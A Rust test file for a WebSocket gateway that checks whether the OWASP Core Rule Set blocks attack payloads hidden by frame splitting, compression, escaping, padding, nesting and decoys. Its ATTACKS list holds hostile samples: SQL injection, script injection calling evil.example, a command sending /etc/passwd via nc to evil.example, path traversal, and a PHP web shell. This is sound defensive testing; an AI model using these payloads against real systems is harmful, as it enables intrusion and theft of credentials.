//! What the OWASP Core Rule Set refuses, as Debian packs it: cut, compressed, encoded, padded and among decoys.

use serde_json::json;
use wicketgate_testkit::attack::{AttackProof, Rejected};
use wicketgate_testkit::raw::Frame;

use super::compression::{OFFER, RSV1, deflated};
use super::policy::cut;
use super::{KEY, LISTENER, Stage, UPSTREAM, bytes};

const HONEST: &str = r#"{"type":"chat","text":"hello, all: select a day, or drop me a line","to":"ann"}"#;
/// What a found attack is told.
const FOUND: u16 = 4403;

/// One of each kind that the rules know best.
const ATTACKS: [&str; 5] = [
    "1' UNION SELECT name, password FROM users--",
    "<script>fetch('//evil.example')</script>",
    "; cat /etc/passwd | nc evil.example 80",
    "../../../../etc/passwd",
    "<?php system($_GET['c']); ?>",
];

fn config() -> String {
    format!(
        "{LISTENER}{UPSTREAM}policies:
  - name: chat
    format: json
    kind: type
    to_upstream:
      - name: core-rule-set
        crs: {{setup: /etc/modsecurity/crs/crs-setup.conf, rules: /usr/share/modsecurity-crs/rules}}
        then: {{close: {FOUND}}}
routes: [{{name: chat, upstream: backend, policy: chat}}]
"
    )
}

fn saying(text: &str) -> String {
    json!({"type": "chat", "text": text}).to_string()
}

async fn is_found(proof: &AttackProof<'_>, frames: &[Frame], what: &str) {
    let masked: Vec<Frame> = frames.iter().cloned().map(|frame| frame.masked(KEY)).collect();
    let proven = proof.session(&bytes(&masked), Rejected::Closed(FOUND), &[]).await;
    proven.unwrap_or_else(|error| panic!("{what}: {error:#}"));
}

#[tokio::test]
async fn frames_hide_nothing_from_the_core_rule_set() {
    let stage = Stage::start(&config()).await;
    let plain = stage.proof("/chat").saying(HONEST);
    let compressed = stage.proof("/chat").saying(HONEST).offering(OFFER);
    for attack in ATTACKS {
        let message = saying(attack);
        is_found(&plain, &[Frame::text(message.clone())], attack).await;
        for at in [0, 1, message.len() / 2, message.len() - 8, message.len()] {
            is_found(&plain, &cut(message.as_bytes(), at, 0), &format!("{attack}, cut at {at}")).await;
        }
        let deflated = deflated(message.as_bytes());
        is_found(&compressed, &cut(&deflated, deflated.len() / 2, RSV1), &format!("{attack}, deflated"))
            .await;
    }
}

#[tokio::test]
async fn spelling_padding_and_decoys_hide_nothing_from_the_core_rule_set() {
    let stage = Stage::start(&config()).await;
    let proof = stage.proof("/chat").saying(HONEST);
    let escaped: String = ATTACKS[0].encode_utf16().map(|unit| format!("\\u{unit:04x}")).collect();
    let percents: String = ATTACKS[1].bytes().map(|byte| format!("%{byte:02x}")).collect();
    let mut decoys = vec!["allow_url_fopen"; 200];
    decoys.push("auto_prepend_file=php://input");
    for (what, message) in [
        ("escapes of JSON", format!(r#"{{"type":"chat","text":"{escaped}"}}"#)),
        ("escapes of URLs", saying(&percents)),
        ("padding", saying(&format!("{}1' or '1'='1' --", " ".repeat(10_000)))),
        ("a name", json!({"type": "chat", ATTACKS[1]: 1}).to_string()),
        ("depth", json!({"type": "chat", "a": [[{"b": [{"c": ATTACKS[2]}]}]]}).to_string()),
        ("decoys", json!({"type": "chat", "to": decoys}).to_string()),
    ] {
        is_found(&proof, &[Frame::text(message)], what).await;
    }
}
